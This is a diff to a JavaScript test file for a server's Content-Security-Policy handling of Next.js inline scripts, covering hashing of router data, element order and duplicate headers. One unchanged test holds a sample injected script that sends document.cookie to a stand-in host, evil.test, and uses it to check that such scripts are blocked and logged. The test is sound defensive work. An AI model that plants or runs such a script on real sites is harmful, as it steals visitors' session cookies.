@@ -25,6 +25,34 @@ test('a page’s policy allows the framework’s inline scripts by their hashes,
   expect(hit.headers['cache-status']).toBe('front; hit')
 })
 
+test('a page of a thousand pieces of router data needs one hash for them, and carries them unchanged', async () => {
+  const pieces = Array.from(
+    { length: 1000 },
+    (_, at) => `${at}:["$","p",null,{"children":"„Nr. ${at}“"}]\n`,
+  )
+  const scripts = pieces.map(
+    (piece) => `<script>self.__next_f.push([1,${JSON.stringify(piece)}])</script>`,
+  )
+  const { render } = fakeRenderer(() =>
+    page(`<script>(self.__next_f=self.__next_f||[]).push([0])</script>${scripts.join('')}`),
+  )
+  const { ask } = await serveFront({ renderer: render })
+  const { headers, body } = await ask('/de')
+
+  const sent = body.toString()
+  const [, joined = ''] = /<script>(self\.__next_f\.push.*?)<\/script>/s.exec(sent) ?? []
+  expect(JSON.parse(joined.slice('self.__next_f.push('.length, -1))).toEqual([1, pieces.join('')])
+  expect(policyOf(headers['content-security-policy'])).toContain(hashOf(joined))
+  expect(policyOf(headers['content-security-policy']).match(/'sha256-/g)).toHaveLength(2)
+})
+
+test('router data with something between stays in its place', async () => {
+  const html = `<script>${own}</script><div hidden>Pause</div><script>${own}</script>`
+  const { render } = fakeRenderer(() => page(html))
+  const { ask } = await serveFront({ renderer: render })
+  expect((await ask('/de')).body.toString()).toContain(html)
+})
+
 test('a page with a script that nobody vouches for is sent with a policy that blocks it, not kept, and logged', async () => {
   const foreign = 'fetch("//evil.test?"+document.cookie)'
   const { render } = fakeRenderer(() =>
@@ -42,6 +70,15 @@ test('a page with a script that nobody vouches for is sent with a policy that bl
   }
   const warning = logged.find(({ msg }) => String(msg).includes('inline scripts'))
   expect(warning).toMatchObject({ scripts: [foreign] })
+})
+
+test('a header that the renderer writes twice goes out once', async () => {
+  const preload = '</_next/static/media/archivo.woff2>; rel=preload; as="font"'
+  const { render } = fakeRenderer(() =>
+    page('', { headers: { ...page('').headers, link: [preload, preload] } }),
+  )
+  const { ask } = await serveFront({ renderer: render })
+  expect((await ask('/de')).headers.link).toBe(preload)
 })
 
 test('foreign sources are only those that the site names', async () => {
